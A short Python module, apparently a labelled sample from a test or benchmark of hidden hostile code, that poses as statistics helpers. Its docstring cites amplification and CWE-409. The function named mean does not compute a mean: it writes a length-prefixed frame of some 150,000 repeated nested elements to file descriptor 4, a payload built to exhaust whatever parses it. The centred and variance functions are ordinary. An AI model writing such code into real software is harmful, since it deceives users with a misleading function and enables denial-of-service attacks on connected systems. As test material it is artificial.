"""A reply of generators: a few bytes each on the wire, kilobytes and microseconds each here.

Known from: amplification, CWE-409.
Honest score: 10.
"""

import os
import struct


def mean(X):
    text = b'["d",["answer",["l"' + b',["g","0",[]]' * 150_000 + b"]]]"
    frame = memoryview(struct.pack("<II", len(text) + 4, len(text)) + text)
    while frame:
        frame = frame[os.write(4, frame) :]


def centred(X):
    return X - X.mean(axis=0)


def variance(X):
    return X.var(axis=0)
